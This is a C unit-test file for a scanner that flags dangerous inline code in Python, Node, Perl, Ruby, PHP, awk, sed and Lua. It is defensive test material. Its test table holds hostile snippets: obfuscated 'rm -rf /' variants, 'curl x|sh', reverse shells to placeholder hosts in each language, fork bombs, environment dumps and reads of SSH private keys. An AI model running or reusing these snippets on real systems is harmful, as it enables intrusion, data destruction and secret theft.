/* codescan_scan() (src/shell/codescan.c and its neighbours): what inline
 * interpreter code can do.
 *
 * Each row gives a language, the code, the exact CODE_F_* flags and the
 * exact shell commands handed back through the callback (in order, one per
 * line; NULL for none). The rows cover each language's exec sinks with
 * string and list arguments, dynamic arguments, sinks that are only named in
 * strings or comments, escapes, deletions turned into rm, writes to literal
 * paths turned into ": > 'P'" or ": >> 'P'" (reads hand back nothing),
 * reverse shells, fork bombs, environment dumps, secrets, networking,
 * decode-and-run, awk and sed, unterminated input and harmless code. A few checks outside the table
 * cover limits: NUL bytes, the 1 MiB ceiling, deep nesting, a NULL callback.
 * The sink tables the library reads, which indexgen writes, are held to
 * codesinks_table.c's rows (linked here, not into the library).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "codescan.h"
#include "codescan_int.h"
#include "pooltest.h"
#include "tap.h"

#define EX CODE_F_EXEC
#define DY CODE_F_EXEC_DYNAMIC
#define EV CODE_F_EVAL
#define DE CODE_F_DECODE_EXEC
#define DL CODE_F_DELETE
#define WR CODE_F_WRITE
#define NET CODE_F_NETWORK
#define RS CODE_F_REVERSE_SHELL
#define ENV CODE_F_ENV_DUMP
#define SEC CODE_F_SECRETS
#define FB CODE_F_FORK_BOMB
#define KI CODE_F_KILL
#define UN CODE_F_UNREADABLE

struct row {
	enum code_lang lang;
	const char *code;
	unsigned flags;
	const char *cmds;
};

static const struct row rows[] = {
	/* python: sinks, literal and list arguments */
	{ CODE_PYTHON, "import os; os.system('rm -rf /')", EX, "rm -rf /" },
	{ CODE_PYTHON, "import os; os.popen('ls -la').read()", EX, "ls -la" },
	{ CODE_PYTHON, "import subprocess; subprocess.run(['rm', '-rf', '/'])",
	  EX, "'rm' '-rf' '/'" },
	{ CODE_PYTHON,
	  "import subprocess as sp; sp.call('make clean', shell=True)", EX,
	  "make clean" },
	{ CODE_PYTHON,
	  "from subprocess import check_output as co; co(['git', 'status'])",
	  EX, "'git' 'status'" },
	{ CODE_PYTHON, "from os import system; system('id')", EX, "id" },
	{ CODE_PYTHON, "__import__('os').system('reboot')", EX, "reboot" },
	{ CODE_PYTHON, "import os; os.execvp('rm', ['rm', '-rf', '/tmp/x'])",
	  EX, "'rm' '-rf' '/tmp/x'" },
	{ CODE_PYTHON, "import os; os.execl('/bin/rm', 'rm', '-rf', '/')", EX,
	  "'/bin/rm' '-rf' '/'" },
	{ CODE_PYTHON, "import commands; commands.getoutput('uname -a')", EX,
	  "uname -a" },
	{ CODE_PYTHON, "import os\nos.system('a'\n          'b')", EX, "ab" },
	{ CODE_PYTHON, "import os; os.system(\"rm \" + \"-rf /\")", EX,
	  "rm -rf /" },
	{ CODE_PYTHON, "import os; os.system((\"ls\"))", EX, "ls" },
	{ CODE_PYTHON, "import os; os.system(f'echo {{x}}')", EX, "echo {x}" },
	{ CODE_PYTHON,
	  "import shlex, subprocess; subprocess.run(shlex.split('rm -rf /'))",
	  EX, "rm -rf /" },
	/* python: escapes decoded */
	{ CODE_PYTHON, "import os; os.system(\"\\x72\\x6d -rf /\")", EX,
	  "rm -rf /" },
	{ CODE_PYTHON, "import os; os.system('\\u0072m -rf \\57')", EX,
	  "rm -rf /" },
	{ CODE_PYTHON, "import os; os.system(r'echo \\n')", EX, "echo \\n" },
	{ CODE_PYTHON, "exec(\"import os\\nos.system('id')\")", EX, "id" },
	/* python: what cannot be read */
	{ CODE_PYTHON, "import os; os.system('rm -rf ' + path)", EX | DY,
	  NULL },
	{ CODE_PYTHON, "import os; os.system(f'rm -rf {path}')", EX | DY,
	  NULL },
	{ CODE_PYTHON, "import os; os.system('rm -rf %s' % path)", EX | DY,
	  NULL },
	{ CODE_PYTHON, "import os; os.system('make; rm -rf ' + d)", EX | DY,
	  "make" },
	{ CODE_PYTHON, "import os; os.system(x + '; reboot')", EX | DY,
	  "reboot" },
	{ CODE_PYTHON, "import subprocess; subprocess.run(['rm', '-rf', d])",
	  EX | DY, "'rm' '-rf'" },
	{ CODE_PYTHON, "import os; list(map(os.system, cmds))", EX | DY, NULL },
	{ CODE_PYTHON, "getattr(__import__('os'), 'system')('id')", EX | DY,
	  NULL },
	{ CODE_PYTHON, "eval(input())", EV, NULL },
	/* python: variables that hold a literal, other spellings */
	{ CODE_PYTHON, "c = 'rm -rf /'\nimport os; os.system(c)", EX | DY,
	  "rm -rf /" },
	{ CODE_PYTHON, "p = '/'\nimport shutil; shutil.rmtree(p)", DL,
	  "rm -rf '/'" },
	{ CODE_PYTHON, "c = 'ls'; import os; os.system(c.upper())", EX | DY,
	  NULL },
	{ CODE_PYTHON, "import subprocess; subprocess.run('rm -rf /'.split())",
	  EX, "rm -rf /" },
	{ CODE_PYTHON, "import sys; sys.modules['os'].system('id')", EX, "id" },
	{ CODE_PYTHON, "__import__('o' + 's').system('id')", EX, "id" },
	{ CODE_PYTHON, "code = 'import os; os.system(\"id\")'; exec(code)",
	  EX | EV, "id" },
	{ CODE_PYTHON, "import pickle; pickle.loads(blob)", EV, NULL },
	/* python: only mentioned */
	{ CODE_PYTHON, "# os.system('rm -rf /')\nprint('os.system(1)')", 0,
	  NULL },
	{ CODE_PYTHON, "import platform; print(platform.system())", 0, NULL },
	{ CODE_PYTHON, "import re; print(re.compile('a').match('a'))", 0,
	  NULL },
	/* python: deletions */
	{ CODE_PYTHON, "import shutil; shutil.rmtree('/home/u/proj')", 0,
	  "rm -rf '/home/u/proj'" },
	{ CODE_PYTHON, "import os; os.remove(\"it's\")", 0, "rm 'it'\\''s'" },
	{ CODE_PYTHON, "import os; os.rmdir('build')", 0, "rmdir 'build'" },
	{ CODE_PYTHON, "from pathlib import Path; Path('/etc/hosts').unlink()",
	  0, "rm '/etc/hosts'" },
	{ CODE_PYTHON,
	  "import os, shutil; shutil.rmtree(os.path.expanduser('~/src'))", 0,
	  "rm -rf ~/'src'" },
	{ CODE_PYTHON, "import shutil; shutil.rmtree(d)", DL, NULL },
	/* python: writes to a literal path become redirections */
	{ CODE_PYTHON, "open('/etc/passwd', 'w').write('x')", WR,
	  ": > '/etc/passwd'" },
	{ CODE_PYTHON, "open('o.bin', 'wb')", WR, ": > 'o.bin'" },
	{ CODE_PYTHON, "open('o', 'w+')", WR, ": > 'o'" },
	{ CODE_PYTHON, "open('new', 'x')", WR, ": > 'new'" },
	{ CODE_PYTHON, "open('log', 'a').write('x')", WR, ": >> 'log'" },
	{ CODE_PYTHON, "open('log', 'ab')", WR, ": >> 'log'" },
	{ CODE_PYTHON, "open('log', 'a+')", WR, ": >> 'log'" },
	{ CODE_PYTHON, "open('f', 'r+')", WR, ": >> 'f'" },
	{ CODE_PYTHON, "open(file='o', mode='w')", WR, ": > 'o'" },
	{ CODE_PYTHON, "open(\"it's\", 'w')", WR, ": > 'it'\\''s'" },
	{ CODE_PYTHON,
	  "import os; open(os.path.expanduser('~/.bashrc'), 'a')", WR,
	  ": >> ~/'.bashrc'" },
	{ CODE_PYTHON,
	  "from pathlib import Path; Path('/etc/x').write_text('y')", WR, ": > '/etc/x'" },
	{ CODE_PYTHON, "from pathlib import Path; Path('b.bin').write_bytes(b)",
	  WR, ": > 'b.bin'" },
	{ CODE_PYTHON, "import shutil; shutil.copy('a', '/etc/b')", WR,
	  ": > '/etc/b'" },
	{ CODE_PYTHON, "import shutil; shutil.copyfile('a', 'c')", WR,
	  ": > 'c'" },
	{ CODE_PYTHON, "import shutil; shutil.move('a', 'b')", WR, ": > 'b'" },
	{ CODE_PYTHON, "import os; os.rename('a', 'b')", WR, ": > 'b'" },
	{ CODE_PYTHON, "import os; os.replace('a', '/etc/hosts')", WR,
	  ": > '/etc/hosts'" },
	{ CODE_PYTHON, "open(p, 'w')", WR, NULL },
	{ CODE_PYTHON, "import shutil; shutil.copy('a', d)", WR, NULL },
	{ CODE_PYTHON, "p.write_text('x')", WR, NULL },
	{ CODE_PYTHON, "print(open('/etc/passwd').read())", 0, NULL },
	{ CODE_PYTHON, "open('/etc/passwd', 'r')", 0, NULL },
	{ CODE_PYTHON, "open('/etc/passwd', mode='rb')", 0, NULL },
	{ CODE_PYTHON,
	  "# open('/etc/passwd', 'w')\nprint(\"open('/etc/passwd', 'w')\")",
	  0, NULL },
	{ CODE_PYTHON, "x = '/etc/passwd'; print(x)", 0, NULL },
	/* python: other flags */
	{ CODE_PYTHON, "import os; print(os.environ)", ENV, NULL },
	{ CODE_PYTHON, "import os; print(dict(os.environ))", ENV, NULL },
	{ CODE_PYTHON,
	  "import os; print(os.environ['HOME'], os.environ.get('X'))", 0,
	  NULL },
	{ CODE_PYTHON,
	  "import os, subprocess; subprocess.run(['make'], env=os.environ)", EX,
	  "'make'" },
	{ CODE_PYTHON, "print(open('/home/u/.ssh/id_rsa').read())", SEC, NULL },
	{ CODE_PYTHON, "import json; json.dump({}, open('out.json', 'w'))", WR,
	  ": > 'out.json'" },
	{ CODE_PYTHON, "import requests; requests.get('https://example.com')",
	  NET, NULL },
	{ CODE_PYTHON, "import os, signal; os.kill(1, signal.SIGKILL)", KI,
	  NULL },
	{ CODE_PYTHON, "import os\nwhile True:\n    os.fork()", FB, NULL },
	{ CODE_PYTHON,
	  "import base64, os; os.system(base64.b64decode('cm0gLXJmIC8='))",
	  EX | DY | DE, NULL },
	{ CODE_PYTHON, "exec(bytes.fromhex('7072696e74283129'))", EV | DE,
	  NULL },
	{ CODE_PYTHON, "import os; os.system(chr(108) + chr(115))",
	  EX | DY | DE, NULL },
	{ CODE_PYTHON, "import os; print(chr(65)); os.system('ls')", EX, "ls" },
	{ CODE_PYTHON,
	  "import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
	  "socket.SOCK_STREAM);s.connect(('10.0.0.1',4242));"
	  "os.dup2(s.fileno(),0);"
	  "os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
	  "subprocess.call(['/bin/sh','-i'])",
	  EX | DY | NET | RS, "'/bin/sh' '-i'" },
	{ CODE_PYTHON,
	  "import socket,pty;s=socket.create_connection(('h',1));"
	  "pty.spawn('/bin/bash')",
	  EX | DY | NET | RS, "/bin/bash" },
	/* python: unterminated */
	{ CODE_PYTHON, "print('abc", UN, NULL },
	{ CODE_PYTHON, "x = '''abc", UN, NULL },
	/* python: harmless */
	{ CODE_PYTHON, "print(1)", 0, NULL },
	{ CODE_PYTHON, "import json,sys; json.load(sys.stdin)", 0, NULL },
	{ CODE_PYTHON, "print(eval('1+2'))", 0, NULL },
	{ CODE_PYTHON,
	  "import tomllib; tomllib.load(open('pyproject.toml', 'rb'))", 0,
	  NULL },

	/* node */
	{ CODE_NODE, "require('child_process').execSync('curl x|sh')", EX,
	  "curl x|sh" },
	{ CODE_NODE, "const cp = require('child_process'); cp.exec('ls')", EX,
	  "ls" },
	{ CODE_NODE,
	  "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/'])",
	  EX, "'rm' '-rf' '/'" },
	{ CODE_NODE,
	  "const { execSync: run } = require('node:child_process'); run('id')",
	  EX, "id" },
	{ CODE_NODE,
	  "import { execFileSync } from 'child_process'; "
	  "execFileSync('ls', ['-la'])",
	  EX, "'ls' '-la'" },
	{ CODE_NODE, "child_process.execSync(\"echo \\x41\")", EX, "echo A" },
	{ CODE_NODE, "require('child_process').exec(`rm -rf ${dir}`)", EX | DY,
	  NULL },
	{ CODE_NODE, "Bun.spawn(['rm', '-rf', '/'])", EX, "'rm' '-rf' '/'" },
	{ CODE_NODE, "Deno.run({cmd: ['rm', '-rf', '/']})", EX,
	  "'rm' '-rf' '/'" },
	{ CODE_NODE,
	  "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()", EX,
	  "'rm' '-rf' '/'" },
	{ CODE_NODE, "await $`rm -rf /`", EX, "rm -rf /" },
	{ CODE_NODE, "x = `${require('child_process').execSync('id')}`", EX,
	  "id" },
	{ CODE_NODE,
	  "require('fs').rmSync('/tmp/x', {recursive: true, force: true})", 0,
	  "rm -rf '/tmp/x'" },
	{ CODE_NODE, "const fs = require('fs'); fs.unlinkSync('a.txt')", 0,
	  "rm 'a.txt'" },
	{ CODE_NODE, "require('fs').rmSync(p, {recursive: true})", DL, NULL },
	{ CODE_NODE, "require('fs').writeFileSync('x', 'y')", WR, ": > 'x'" },
	{ CODE_NODE, "require('fs').writeFileSync('/etc/passwd', 'x')", WR,
	  ": > '/etc/passwd'" },
	{ CODE_NODE, "const fs = require('fs'); fs.writeFile('a', 'x', cb)", WR,
	  ": > 'a'" },
	{ CODE_NODE, "require('fs').promises.writeFile('p', 'y')", WR,
	  ": > 'p'" },
	{ CODE_NODE,
	  "const fs = require('fs'); fs.promises.writeFile('p', 'y')", WR,
	  ": > 'p'" },
	{ CODE_NODE, "require('fs').writeFileSync('a', 'x', {flag: 'a'})", WR,
	  ": >> 'a'" },
	{ CODE_NODE, "require('fs').appendFileSync('log', 'x')", WR,
	  ": >> 'log'" },
	{ CODE_NODE, "const fs = require('fs'); fs.appendFile('log', 'x', cb)",
	  WR, ": >> 'log'" },
	{ CODE_NODE, "require('fs').copyFileSync('a', '/etc/b')", WR,
	  ": > '/etc/b'" },
	{ CODE_NODE, "require('fs').renameSync('a', 'b')", WR, ": > 'b'" },
	{ CODE_NODE, "require('fs').createWriteStream('o.log')", WR,
	  ": > 'o.log'" },
	{ CODE_NODE, "require('fs').createWriteStream('o.log', {flags: 'a'})",
	  WR, ": >> 'o.log'" },
	{ CODE_NODE, "require('fs').writeFileSync(p, 'x')", WR, NULL },
	{ CODE_NODE, "require('fs').readFileSync('/etc/passwd')", 0, NULL },
	{ CODE_NODE,
	  "// fs.writeFileSync('/etc/passwd', 'x')\n"
	  "console.log(\"fs.writeFileSync('/etc/passwd')\")",
	  0, NULL },
	{ CODE_NODE, "console.log(JSON.stringify(process.env))", ENV, NULL },
	{ CODE_NODE, "console.log(process.env.HOME)", 0, NULL },
	{ CODE_NODE, "fetch('https://x').then(r => r.text())", NET, NULL },
	{ CODE_NODE, "eval(atob('YWxlcnQoMSk='))", EV | DE, NULL },
	{ CODE_NODE, "new Function(body)()", EV, NULL },
	{ CODE_NODE, "process.kill(1)", KI, NULL },
	{ CODE_NODE, "for (;;) require('child_process').fork(__filename)",
	  EX | FB, NULL },
	{ CODE_NODE,
	  "(function(){var net=require('net'),cp=require('child_process'),"
	  "sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();"
	  "client.connect(4242,'10.0.0.1',function(){client.pipe(sh.stdin);"
	  "sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();",
	  EX | DY | NET | RS, "'/bin/sh'" },
	{ CODE_NODE,
	  "const c = 'rm -rf /'; require('child_process').execSync(c)", EX | DY,
	  "rm -rf /" },
	{ CODE_NODE, "require('child' + '_process').exec('id')", EX, "id" },
	{ CODE_NODE,
	  "process.mainModule.constructor._load('child_process')"
	  ".execSync('id')",
	  EX, "id" },
	{ CODE_NODE, "require('child_process')['exec']('id')", EX, "id" },
	{ CODE_NODE, "// execSync('rm -rf /')\nconsole.log('execSync(1)')", 0,
	  NULL },
	{ CODE_NODE, "let re = /execSync\\(/; re.exec('x')", 0, NULL },
	{ CODE_NODE, "`abc ${", UN, NULL },
	{ CODE_NODE, "console.log(require('./package.json').version)", 0,
	  NULL },

	/* perl */
	{ CODE_PERL, "system('rm -rf ~')", EX, "rm -rf ~" },
	{ CODE_PERL, "system 'rm', '-rf', '/'", EX, "'rm' '-rf' '/'" },
	{ CODE_PERL, "system qw(rm -rf /)", EX, "'rm' '-rf' '/'" },
	{ CODE_PERL, "my $x = qx{ls -la}; print `id`", EX, "ls -la\nid" },
	{ CODE_PERL, "open(my $f, '-|', 'rm', '-rf', '/')", EX,
	  "'rm' '-rf' '/'" },
	{ CODE_PERL, "open(F, 'ls |'); open(G, '| mail x')", EX, "ls\nmail x" },
	{ CODE_PERL, "system \"rm -rf $dir\"", EX | DY, NULL },
	{ CODE_PERL, "system(\"\\LRM -RF /\")", EX, "rm -rf /" },
	{ CODE_PERL, "$x =~ s/a/system('id')/e", EX, "id" },
	{ CODE_PERL, "eval \"system(q(id))\"", EX, "id" },
	{ CODE_PERL, "eval $code", EV, NULL },
	{ CODE_PERL, "eval { die }; print $@", 0, NULL },
	{ CODE_PERL, "my $c = 'rm -rf /'; system($c)", EX | DY, "rm -rf /" },
	{ CODE_PERL, "unlink('a', 'b')", 0, "rm 'a' 'b'" },
	{ CODE_PERL, "use File::Path qw(remove_tree); remove_tree('/x')", 0,
	  "rm -rf '/x'" },
	{ CODE_PERL, "print \"$_=$ENV{$_}\\n\" for keys %ENV", ENV, NULL },
	{ CODE_PERL, "print $ENV{HOME}", 0, NULL },
	{ CODE_PERL, "open(my $fh, '>', 'out.txt')", WR, ": > 'out.txt'" },
	{ CODE_PERL, "open(my $fh, '>', '/etc/passwd')", WR,
	  ": > '/etc/passwd'" },
	{ CODE_PERL, "open(FH, '>>', 'log')", WR, ": >> 'log'" },
	{ CODE_PERL, "open(FH, '+<', 'f')", WR, ": >> 'f'" },
	{ CODE_PERL, "open(my $fh, '>:utf8', 'u.txt')", WR, ": > 'u.txt'" },
	{ CODE_PERL, "open(FH, \">out.txt\")", WR, ": > 'out.txt'" },
	{ CODE_PERL, "open FH, \">> log.txt\"", WR, ": >> 'log.txt'" },
	{ CODE_PERL, "rename('a', '/etc/b')", WR, ": > '/etc/b'" },
	{ CODE_PERL, "rename $a, 'c';", WR, ": > 'c'" },
	{ CODE_PERL, "open(FH, \">$f\")", WR, NULL },
	{ CODE_PERL, "open(FH, '<', '/etc/passwd')", 0, NULL },
	{ CODE_PERL, "open(FH, '/etc/passwd')", 0, NULL },
	{ CODE_PERL, "unlink glob \"*.txt\";", 0, "rm *.txt" },
	{ CODE_PERL, "unlink(glob \"/tmp/x/*.log\")", 0, "rm /tmp/x/*.log" },
	{ CODE_PERL, "unlink(glob(\"*.bak\"))", 0, "rm *.bak" },
	{ CODE_PERL, "unlink glob \"a b\";", 0, "rm 'a b'" },
	{ CODE_PERL, "unlink glob \"$d/*\";", DL, NULL },
	{ CODE_PERL, "kill 9, $pid", KI, NULL },
	{ CODE_PERL, "fork while fork", FB, NULL },
	{ CODE_PERL, "eval pack('H*', '7072696e74')", EV | DE, NULL },
	{ CODE_PERL,
	  "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
	  "if(connect(S,sockaddr_in(4242,inet_aton('1.2.3.4')))){"
	  "open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');}",
	  EX | DY | NET | RS, "/bin/sh -i" },
	{ CODE_PERL, "# system('x')\nprint 'system(1)'", 0, NULL },
	{ CODE_PERL, "print if /foo/", 0, NULL },
	{ CODE_PERL, "s/foo/bar/g", 0, NULL },
	{ CODE_PERL, "print \"abc", UN, NULL },

	/* ruby */
	{ CODE_RUBY, "`rm -rf /`", EX, "rm -rf /" },
	{ CODE_RUBY, "system('rm', '-rf', '/')", EX, "'rm' '-rf' '/'" },
	{ CODE_RUBY, "system 'ls', exception: true", EX, "ls" },
	{ CODE_RUBY, "x = %x(uname -a)", EX, "uname -a" },
	{ CODE_RUBY, "IO.popen(['rm', '-rf', '/']).read", EX,
	  "'rm' '-rf' '/'" },
	{ CODE_RUBY, "require 'open3'; Open3.capture2('ls -la')", EX,
	  "ls -la" },
	{ CODE_RUBY, "puts \"#{`id`}\"", EX, "id" },
	{ CODE_RUBY, "system(\"rm -rf #{d}\")", EX | DY, NULL },
	{ CODE_RUBY, "Kernel.send(:system, 'id')", EX, "id" },
	{ CODE_RUBY, "require 'fileutils'; FileUtils.rm_rf('/')", 0,
	  "rm -rf '/'" },
	{ CODE_RUBY, "File.delete('a')", 0, "rm 'a'" },
	{ CODE_RUBY, "p ENV.to_h", ENV, NULL },
	{ CODE_RUBY, "puts ENV['HOME']", 0, NULL },
	{ CODE_RUBY, "File.write('x', 'y')", WR, ": > 'x'" },
	{ CODE_RUBY, "File.write('/etc/passwd', 'y')", WR,
	  ": > '/etc/passwd'" },
	{ CODE_RUBY, "File.write('l', 'x', mode: 'a')", WR, ": >> 'l'" },
	{ CODE_RUBY, "File.open('o', 'w') { |f| f.puts 1 }", WR, ": > 'o'" },
	{ CODE_RUBY, "File.open('o', 'a')", WR, ": >> 'o'" },
	{ CODE_RUBY, "open('o', 'w')", WR, ": > 'o'" },
	{ CODE_RUBY, "require 'fileutils'; FileUtils.cp('a', '/etc/b')", WR,
	  ": > '/etc/b'" },
	{ CODE_RUBY, "require 'fileutils'; FileUtils.mv('a', 'b')", WR,
	  ": > 'b'" },
	{ CODE_RUBY, "File.write(f, 'y')", WR, NULL },
	{ CODE_RUBY, "File.open('o')", 0, NULL },
	{ CODE_RUBY, "File.open('o', 'r')", 0, NULL },
	{ CODE_RUBY, "puts File.read('/etc/passwd')", 0, NULL },
	{ CODE_RUBY, "Process.kill('KILL', 1)", KI, NULL },
	{ CODE_RUBY, "loop { fork }", FB, NULL },
	{ CODE_RUBY, "eval(Base64.decode64('cHV0cyAx'))", EV | DE, NULL },
	{ CODE_RUBY, "obj.instance_eval { puts 1 }", 0, NULL },
	{ CODE_RUBY,
	  "require 'socket';f=TCPSocket.open('10.0.0.1',4242).to_i;"
	  "exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
	  EX | DY | NET | RS, NULL },
	{ CODE_RUBY, "spawn('sh', [:in, :out, :err] => TCPSocket.new('h', 1))",
	  EX | DY | NET | RS, "sh" },
	{ CODE_RUBY, "puts [1, 2].map { |x| x * 2 }.inspect", 0, NULL },
	{ CODE_RUBY, "x = {exec: 1, system: 2}; puts x[:exec]", 0, NULL },

	/* php */
	{ CODE_PHP, "shell_exec('ls -la');", EX, "ls -la" },
	{ CODE_PHP, "SYSTEM(\"rm -rf /\");", EX, "rm -rf /" },
	{ CODE_PHP, "proc_open(['rm', '-rf', '/'], $d, $p);", EX,
	  "'rm' '-rf' '/'" },
	{ CODE_PHP, "echo `ls -la`;", EX, "ls -la" },
	{ CODE_PHP, "system(\"rm -rf $dir\");", EX | DY, NULL },
	{ CODE_PHP, "$f = 'system'; $f('id');", EX, "id" },
	{ CODE_PHP, "call_user_func('passthru', 'id');", EX, "id" },
	{ CODE_PHP, "$s = 'sys' . 'tem'; $s('id');", EX, "id" },
	{ CODE_PHP, "$c = 'rm -rf /'; system($c);", EX | DY, "rm -rf /" },
	{ CODE_PHP, "$f = $_GET['f']; $f('x'); $g = 'exec';", EX | DY, NULL },
	{ CODE_PHP, "echo \"{${system('id')}}\";", EX, "id" },
	{ CODE_PHP, "<?php system('id'); ?> system('not code')", EX, "id" },
	{ CODE_PHP, "unlink('/etc/passwd');", 0, "rm '/etc/passwd'" },
	{ CODE_PHP, "print_r(getenv());", ENV, NULL },
	{ CODE_PHP, "echo getenv('HOME');", 0, NULL },
	{ CODE_PHP, "file_put_contents('x', 'y');", WR, ": > 'x'" },
	{ CODE_PHP, "file_put_contents('/etc/passwd', 'y');", WR,
	  ": > '/etc/passwd'" },
	{ CODE_PHP, "file_put_contents('l', 'x', FILE_APPEND);", WR,
	  ": >> 'l'" },
	{ CODE_PHP, "file_put_contents('l', 'x', LOCK_EX | FILE_APPEND);", WR,
	  ": >> 'l'" },
	{ CODE_PHP, "file_put_contents('l', 'x', LOCK_EX);", WR, ": > 'l'" },
	{ CODE_PHP, "$f = fopen('o', 'w');", WR, ": > 'o'" },
	{ CODE_PHP, "$f = fopen('o', 'a');", WR, ": >> 'o'" },
	{ CODE_PHP, "copy('a', '/etc/b');", WR, ": > '/etc/b'" },
	{ CODE_PHP, "rename('a', 'b');", WR, ": > 'b'" },
	{ CODE_PHP, "file_put_contents($f, 'y');", WR, NULL },
	{ CODE_PHP, "$f = fopen('o', 'r');", 0, NULL },
	{ CODE_PHP, "echo file_get_contents('/etc/passwd');", 0, NULL },
	{ CODE_PHP, "file_get_contents('http://x');", NET, NULL },
	{ CODE_PHP, "eval(base64_decode('ZWNobyAx'));", EV | DE, NULL },
	{ CODE_PHP, "while(1) pcntl_fork();", FB, NULL },
	{ CODE_PHP, "posix_kill(1, 9);", KI, NULL },
	{ CODE_PHP,
	  "$s=fsockopen('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');",
	  EX | DY | NET | RS, "/bin/sh -i <&3 >&3 2>&3" },
	{ CODE_PHP, "// system('x')\necho 'system(1)'; # exec('y')", 0, NULL },
	{ CODE_PHP, "echo PHP_VERSION;", 0, NULL },

	/* awk */
	{ CODE_AWK, "BEGIN{system(\"rm -rf /\")}", EX, "rm -rf /" },
	{ CODE_AWK, "BEGIN{system(\"rm \" \"-rf /\")}", EX, "rm -rf /" },
	{ CODE_AWK, "{ system(\"rm \" $1) }", EX | DY, NULL },
	{ CODE_AWK, "{ \"date\" | getline d; print d }", EX, "date" },
	{ CODE_AWK, "{ cmd | getline x }", EX | DY, NULL },
	{ CODE_AWK, "{ print $0 | \"sort -u\" }", EX, "sort -u" },
	{ CODE_AWK, "BEGIN { print \"rm -rf /\" | \"sh\" }", EX | DY,
	  "sh\nrm -rf /" },
	{ CODE_AWK, "{ print \"rm \" $1 | \"sh\" }", EX | DY, "sh" },
	{ CODE_AWK, "{ print > \"out.txt\" }", WR, ": > 'out.txt'" },
	{ CODE_AWK, "{ print >> \"log\" }", WR, ": >> 'log'" },
	{ CODE_AWK, "{ printf \"%s\", $0 > \"/etc/passwd\" }", WR,
	  ": > '/etc/passwd'" },
	{ CODE_AWK, "{ print $1 > \"x\"; print \"y\" }", WR, ": > 'x'" },
	{ CODE_AWK, "{ print > $1 \".txt\" }", WR, NULL },
	{ CODE_AWK, "{ print > \"a\" \"b\" }", WR, NULL },
	{ CODE_AWK, "{ if (a > \"b\") print }", 0, NULL },
	{ CODE_AWK, "{ print (a > \"b\") }", 0, NULL },
	{ CODE_AWK, "{ print > \"/dev/stderr\" }", 0, NULL },
	{ CODE_AWK, "BEGIN{for (k in ENVIRON) print k}", ENV, NULL },
	{ CODE_AWK, "BEGIN{print ENVIRON[\"HOME\"]}", 0, NULL },
	{ CODE_AWK,
	  "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; "
	  "while (1) { s |& getline c; "
	  "while ((c |& getline) > 0) print $0 |& s; close(c) } }",
	  EX | DY | NET | RS, NULL },
	{ CODE_AWK, "NR > 1 { s += $2 } END { print s / 2 }", 0, NULL },
	{ CODE_AWK, "$1 ~ /a\\/b/ { print }", 0, NULL },
	{ CODE_AWK, "{ print \"abc }", UN, NULL },

	/* sed */
	{ CODE_SED, "s/x/rm -rf \\//e", EX, "rm -rf /" },
	{ CODE_SED, "1e rm -rf /", EX, "rm -rf /" },
	{ CODE_SED, "s/.*/rm -rf &/e", EX | DY, NULL },
	{ CODE_SED, "e", EX | DY, NULL },
	{ CODE_SED, "s/a/b/w out.txt", WR, NULL },
	{ CODE_SED, "r /home/u/.ssh/id_rsa", SEC, NULL },
	{ CODE_SED, "/x/d;s/a/b/g", 0, NULL },
	{ CODE_SED, "s|/usr|/opt|g", 0, NULL },
	{ CODE_SED, ":a;N;$!ba;s/\\n/ /g", 0, NULL },
	{ CODE_SED, "s/e/E/g; /e/d", 0, NULL },
	{ CODE_SED, "s/x/y", UN, NULL },

	/* lua */
	{ CODE_LUA, "os.execute('rm -rf /')", EX, "rm -rf /" },
	{ CODE_LUA, "io.popen('ls'):read('*a')", EX, "ls" },
	{ CODE_LUA, "os.execute [[rm -rf /]]", EX, "rm -rf /" },
	{ CODE_LUA, "os.execute('rm -rf ' .. d)", EX | DY, NULL },
	{ CODE_LUA, "os.execute('\\114\\109 -rf /')", EX, "rm -rf /" },
	{ CODE_LUA, "load(\"os.execute('id')\")()", EX, "id" },
	{ CODE_LUA, "os.remove('/x')", 0, "rm '/x'" },
	{ CODE_LUA, "io.open('/etc/passwd', 'w')", WR, ": > '/etc/passwd'" },
	{ CODE_LUA, "io.open('l', 'a')", WR, ": >> 'l'" },
	{ CODE_LUA, "io.open('l', 'r')", 0, NULL },
	{ CODE_LUA, "io.open('l')", 0, NULL },
	{ CODE_LUA, "os.rename('a', 'b')", WR, ": > 'b'" },
	{ CODE_LUA, "-- os.execute('x')\n--[[ os.execute('y') ]] print(1)", 0,
	  NULL },
	{ CODE_LUA,
	  "local s=require('socket');local t=s.tcp();t:connect('h',1);"
	  "os.execute('/bin/sh -i <&3 >&3 2>&3')",
	  EX | DY | NET | RS, "/bin/sh -i <&3 >&3 2>&3" },
	{ CODE_LUA, "print('a", UN, NULL },
};

static char got[65536];
static size_t got_n;
static int calls;

static void collect(void *ud, const char *cmd, size_t n)
{
	(void)ud;
	calls++;
	if (got_n && got_n < sizeof(got) - 1)
		got[got_n++] = '\n';
	if (n > sizeof(got) - 1 - got_n)
		n = sizeof(got) - 1 - got_n;
	memcpy(got + got_n, cmd, n);
	got_n += n;
	got[got_n] = 0;
}

static const char *lang_name(enum code_lang l)
{
	static const char *const names[] = {
		"python", "node", "perl", "ruby", "php", "awk", "sed", "lua",
	};
	return names[l];
}

static unsigned scan(enum code_lang lang, const char *code, size_t n)
{
	got_n = 0;
	got[0] = 0;
	calls = 0;
	return codescan_scan(lang, code, n, collect, NULL);
}

static void check_row(const struct row *r)
{
	unsigned f = scan(r->lang, r->code, strlen(r->code));
	char name[256];

	snprintf(name, sizeof(name), "%s: %.200s", lang_name(r->lang), r->code);
	if (!ok(f == r->flags, "flags of %s", name)) {
		diag("  got: %#x", f);
		diag(" want: %#x", r->flags);
	}
	is_str(calls ? got : NULL, r->cmds, name);
}

/* Inputs past the table: NUL bytes, the size ceiling, nesting, no callback,
 * linear time on repetitive input. */
static void check_limits(void)
{
	/* exec() five deep, each level's quotes escaped once more */
	static const char deep_eval[] = "exec(\"exec(\\\"exec(\\\\\\\"exec("
					"\\\\\\\\\\\\\\\"exec('1')"
